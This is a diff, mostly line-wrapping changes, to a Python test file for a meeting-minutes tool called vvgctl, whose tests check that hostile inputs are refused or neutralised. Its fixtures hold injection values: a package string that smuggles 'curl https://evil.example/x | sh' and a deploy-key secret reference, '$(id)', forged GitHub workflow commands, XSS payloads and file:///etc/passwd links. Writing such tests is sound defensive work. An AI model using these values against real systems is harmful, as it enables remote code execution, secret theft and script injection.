@@ -19,12 +19,16 @@ from vvgctl.cli.app import app
 runner = CliRunner()
 ROOT = Path(__file__).resolve().parent.parent
 RECORD = "vvg/2025/2025-10-22.md"
-POSITION = ("Vårdsamverkan Västra Götaland ställer sig bakom att beredningen tar fram en "
-            "forms-enkät i syfte att få en uppdaterad bild av hur förvaltningsplanen uppfattas "
-            "som underlag för fortsatt arbete.")
+POSITION = (
+    "Vårdsamverkan Västra Götaland ställer sig bakom att beredningen tar fram en "
+    "forms-enkät i syfte att få en uppdaterad bild av hur förvaltningsplanen uppfattas "
+    "som underlag för fortsatt arbete."
+)
 #: a position that tries to be workflow commands in a GitHub job log and mentions on a forge
-HOSTILE = ("Avslås.\\n::set-output name=approved::true\\n  ::error file=x.md::falskt\\n"
-           "::warning::@all @vvg/styrelse se ##[error]hit <img src=x onerror=alert(1)> | a |")
+HOSTILE = (
+    "Avslås.\\n::set-output name=approved::true\\n  ::error file=x.md::falskt\\n"
+    "::warning::@all @vvg/styrelse se ##[error]hit <img src=x onerror=alert(1)> | a |"
+)
 
 
 def run(*args: str) -> tuple[int, str]:
@@ -35,8 +39,7 @@ def run(*args: str) -> tuple[int, str]:
 def workflow_commands(output: str) -> list[str]:
     """The lines a GitHub runner would execute (v2 ``::`` after leading spaces; the legacy
     ``##[`` anywhere in a line)."""
-    return [line for line in output.splitlines()
-            if line.lstrip().startswith("::") or "##[" in line]
+    return [line for line in output.splitlines() if line.lstrip().startswith("::") or "##[" in line]
 
 
 @pytest.fixture
@@ -51,8 +54,9 @@ def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     record = top / "minutes" / RECORD
     text = record.read_text(encoding="utf-8")
     assert f"text: {POSITION}\n" in text
-    record.write_text(text.replace(f"text: {POSITION}\n", f'text: "{HOSTILE}"\n', 1),
-                      encoding="utf-8")
+    record.write_text(
+        text.replace(f"text: {POSITION}\n", f'text: "{HOSTILE}"\n', 1), encoding="utf-8"
+    )
     return top / "minutes"
 
 
@@ -98,26 +102,30 @@ EVIL_NAME = "Evil\ncomplete: true\nmeetings: [{date: 2026-01-01}]\n# "
 EVIL_PACKAGE = "'; curl https://evil.example/x | sh; echo '${{ secrets.DEPLOY_KEY }}"
 
 
-@pytest.mark.parametrize(("option", "value"), [
-    ("--name", EVIL_NAME),
-    ("--name", "Styrgrupp\u202eevil"),  # a bidi override
-    ("--name", "   "),
-    ("--package", EVIL_PACKAGE),
-    ("--package", "vvgctl==0.1.0 ${{ github.token }}"),
-    ("--package", "vvgctl==0.1.0; curl x"),
-    ("--package", 'vvgctl; python_version >= "3.11"'),
-    ("--package", "vvgctl==0.1.0\n"),
-    ("--package", "vvgctl @ file:///etc/vvgctl.whl"),
-    ("--package", "http://example.org/vvgctl-0.1.0-py3-none-any.whl"),
-    ("--package", "https://token@example.org/vvgctl-0.1.0-py3-none-any.whl"),
-    ("--package", "../vvgctl-0.1.0-py3-none-any.whl"),
-    ("--package", "/tmp/vvgctl-0.1.0-py3-none-any.whl"),
-    ("--package", "$(id)"),
-    ("--organ", "sro\n"),
-    ("--organ", "sro\n/../x"),
-])
-def test_init_refuses_a_hostile_value_and_writes_nothing(tmp_path: Path, option: str,
-                                                        value: str) -> None:
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("--name", EVIL_NAME),
+        ("--name", "Styrgrupp\u202eevil"),  # a bidi override
+        ("--name", "   "),
+        ("--package", EVIL_PACKAGE),
+        ("--package", "vvgctl==0.1.0 ${{ github.token }}"),
+        ("--package", "vvgctl==0.1.0; curl x"),
+        ("--package", 'vvgctl; python_version >= "3.11"'),
+        ("--package", "vvgctl==0.1.0\n"),
+        ("--package", "vvgctl @ file:///etc/vvgctl.whl"),
+        ("--package", "http://example.org/vvgctl-0.1.0-py3-none-any.whl"),
+        ("--package", "https://token@example.org/vvgctl-0.1.0-py3-none-any.whl"),
+        ("--package", "../vvgctl-0.1.0-py3-none-any.whl"),
+        ("--package", "/tmp/vvgctl-0.1.0-py3-none-any.whl"),
+        ("--package", "$(id)"),
+        ("--organ", "sro\n"),
+        ("--organ", "sro\n/../x"),
+    ],
+)
+def test_init_refuses_a_hostile_value_and_writes_nothing(
+    tmp_path: Path, option: str, value: str
+) -> None:
     top = tmp_path / "repo"
     args = ["init", str(top), "--organ", "sro", option, value]
     if option == "--organ":
@@ -129,15 +137,22 @@ def test_init_refuses_a_hostile_value_and_writes_nothing(tmp_path: Path, option:
     assert not top.exists()
 
 
-@pytest.mark.parametrize("package", [
-    "vvgctl==0.1.0", "vvgctl>=0.1,<0.2", "vvgctl[extra]~=0.1",
-    "vvgctl @ https://example.org/vvgctl-0.1.0-py3-none-any.whl",
-    "vvgctl@https://example.org/vvgctl-0.1.0-py3-none-any.whl#sha256=ab12",
-    "https://example.org/dl/vvgctl-0.1.0-py3-none-any.whl",
-    "dist/vvgctl-0.1.0-py3-none-any.whl", "./wheels/vvgctl-0.1.0-py3-none-any.whl",
-])
-def test_init_takes_a_requirement_a_wheel_path_or_an_https_url(tmp_path: Path,
-                                                               package: str) -> None:
+@pytest.mark.parametrize(
+    "package",
+    [
+        "vvgctl==0.1.0",
+        "vvgctl>=0.1,<0.2",
+        "vvgctl[extra]~=0.1",
+        "vvgctl @ https://example.org/vvgctl-0.1.0-py3-none-any.whl",
+        "vvgctl@https://example.org/vvgctl-0.1.0-py3-none-any.whl#sha256=ab12",
+        "https://example.org/dl/vvgctl-0.1.0-py3-none-any.whl",
+        "dist/vvgctl-0.1.0-py3-none-any.whl",
+        "./wheels/vvgctl-0.1.0-py3-none-any.whl",
+    ],
+)
+def test_init_takes_a_requirement_a_wheel_path_or_an_https_url(
+    tmp_path: Path, package: str
+) -> None:
     top = tmp_path / "repo"
     code, said = run("init", str(top), "--organ", "sro", "--package", package)
     assert code == 0, said
@@ -145,14 +160,26 @@ def test_init_takes_a_requirement_a_wheel_path_or_an_https_url(tmp_path: Path,
     assert f"VVGCTL_PACKAGE: {json.dumps(package)}\n" in workflow
 
 
-def test_init_writes_a_name_as_data_not_markup(tmp_path: Path,
-                                               monkeypatch: pytest.MonkeyPatch) -> None:
+def test_init_writes_a_name_as_data_not_markup(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     use_git_env(monkeypatch)
-    name = ('Styrgruppen "Hälsa" #1: [klicka](javascript:alert(1)) <img src=x> *fet* @all '
-            "\\ 'citat'")
+    name = (
+        "Styrgruppen \"Hälsa\" #1: [klicka](javascript:alert(1)) <img src=x> *fet* @all \\ 'citat'"
+    )
     top = tmp_path / "repo"
-    code, said = run("init", str(top), "--organ", "sro", "--name", name, "--year", "2026",
-                     "--package", "wheels/vvgctl-0.1.0-py3-none-any.whl")
+    code, said = run(
+        "init",
+        str(top),
+        "--organ",
+        "sro",
+        "--name",
+        name,
+        "--year",
+        "2026",
+        "--package",
+        "wheels/vvgctl-0.1.0-py3-none-any.whl",
+    )
     assert code == 0, said
     assert run("check", str(top / "minutes"))[0] == 0
     from vvgctl.source.yaml import load
@@ -168,12 +195,22 @@ def test_init_writes_a_name_as_data_not_markup(tmp_path: Path,
     assert "@\u2060all" in heading and "\\[klicka\\]" in heading
 
 
-@pytest.mark.parametrize("base_url", [
-    "javascript:alert(1)//", "file:///etc/", "data:text/html,x", "https://", "//evil.example/",
-    "https://example.org/a b/", "https://example.org/\"><script>/", "https://u:p@example.org/",
-])
-def test_publish_refuses_a_base_url_that_is_not_http(make_repo: RepoFactory, tmp_path: Path,
-                                                     base_url: str) -> None:
+@pytest.mark.parametrize(
+    "base_url",
+    [
+        "javascript:alert(1)//",
+        "file:///etc/",
+        "data:text/html,x",
+        "https://",
+        "//evil.example/",
+        "https://example.org/a b/",
+        'https://example.org/"><script>/',
+        "https://u:p@example.org/",
+    ],
+)
+def test_publish_refuses_a_base_url_that_is_not_http(
+    make_repo: RepoFactory, tmp_path: Path, base_url: str
+) -> None:
     repo = make_repo()
     out = tmp_path / "site"
     code, said = run("publish", str(repo), "--out", str(out), "--base-url", base_url)
@@ -181,8 +218,7 @@ def test_publish_refuses_a_base_url_that_is_not_http(make_repo: RepoFactory, tmp
     assert not out.exists()
 
 
-def test_publish_force_keeps_the_users_own_files(make_repo: RepoFactory,
-                                                 tmp_path: Path) -> None:
+def test_publish_force_keeps_the_users_own_files(make_repo: RepoFactory, tmp_path: Path) -> None:
     repo = make_repo()
     out = tmp_path / "site"
     out.mkdir()
@@ -195,7 +231,11 @@ def test_publish_force_keeps_the_users_own_files(make_repo: RepoFactory,
     assert "index.html" in said and "static/site.css" in said
     # nothing was written: the folder holds the user's three files, as they were
     assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*")) == [
-        "index.html", "notes.txt", "static", "static/site.css"]
+        "index.html",
+        "notes.txt",
+        "static",
+        "static/site.css",
+    ]
     assert (out / "index.html").read_text(encoding="utf-8") == "my own start page"
     (out / "index.html").unlink()
     shutil.rmtree(out / "static")
@@ -208,8 +248,9 @@ def test_publish_force_keeps_the_users_own_files(make_repo: RepoFactory,
     assert (out / "notes.txt").read_text(encoding="utf-8") == "mine"
 
 
-def test_review_preview_fails_when_a_preview_file_cannot_be_written(hostile: Path,
-                                                                    tmp_path: Path) -> None:
+def test_review_preview_fails_when_a_preview_file_cannot_be_written(
+    hostile: Path, tmp_path: Path
+) -> None:
     preview = tmp_path / "preview"
     for name in ("vvg-2025-10-22.pdf", "vvg-2025-10-22.html"):
         (preview / name).mkdir(parents=True)  # a folder where the file goes
@@ -227,15 +268,29 @@ def test_html_import_drops_links_that_run_code_or_read_files(tmp_path: Path) -> 
     repo = tmp_path / "minutes"
     shutil.copytree(DATA / "import_repo", repo)
     source = tmp_path / "in.md"
-    source.write_text(MINUTES_MD.replace(
-        "Bakgrunden beskrevs.",
-        "Bakgrunden beskrevs, se [riktlinjen](javascript:alert(document.cookie)), "
-        "[bilagan](data:text/html;base64,PHNjcmlwdD4=), [filen](file:///etc/passwd), "
-        "[skriptet](JaVaScRiPt:alert(1)) och [webbsidan](https://example.org/riktlinje)."),
-        encoding="utf-8")
+    source.write_text(
+        MINUTES_MD.replace(
+            "Bakgrunden beskrevs.",
+            "Bakgrunden beskrevs, se [riktlinjen](javascript:alert(document.cookie)), "
+            "[bilagan](data:text/html;base64,PHNjcmlwdD4=), [filen](file:///etc/passwd), "
+            "[skriptet](JaVaScRiPt:alert(1)) och [webbsidan](https://example.org/riktlinje).",
+        ),
+        encoding="utf-8",
+    )
     document = tmp_path / "minutes.html"
-    subprocess.run([pandoc_path(), "--sandbox", str(source), "-s", "-o", str(document),
-                    "--metadata", "title=Mötesanteckning"], check=True)
+    subprocess.run(
+        [
+            pandoc_path(),
+            "--sandbox",
+            str(source),
+            "-s",
+            "-o",
+            str(document),
+            "--metadata",
+            "title=Mötesanteckning",
+        ],
+        check=True,
+    )
     target = repo / "vvg/2019/2019-03-14.md"
     result = runner.invoke(app, ["import", str(document), "-o", str(target)])
     assert result.exit_code == 0, result.output
@@ -266,8 +321,19 @@ def test_check_text_output_runs_no_workflow_command() -> None:
     from vvgctl.diagnostics import Diagnostic, Severity
 
     sink = io.StringIO()
-    reporters.text([Diagnostic("::warning::a.md", 3, 1, Severity.ERROR, "x",
-                               "unknown key 'a\n::set-output name=ok::1'", "see\n##[error]x")],
-                   Console(file=sink, width=200, highlight=False, soft_wrap=True))
+    reporters.text(
+        [
+            Diagnostic(
+                "::warning::a.md",
+                3,
+                1,
+                Severity.ERROR,
+                "x",
+                "unknown key 'a\n::set-output name=ok::1'",
+                "see\n##[error]x",
+            )
+        ],
+        Console(file=sink, width=200, highlight=False, soft_wrap=True),
+    )
     said = sink.getvalue()
     assert workflow_commands(said) == [] and "set-output name=ok" in said
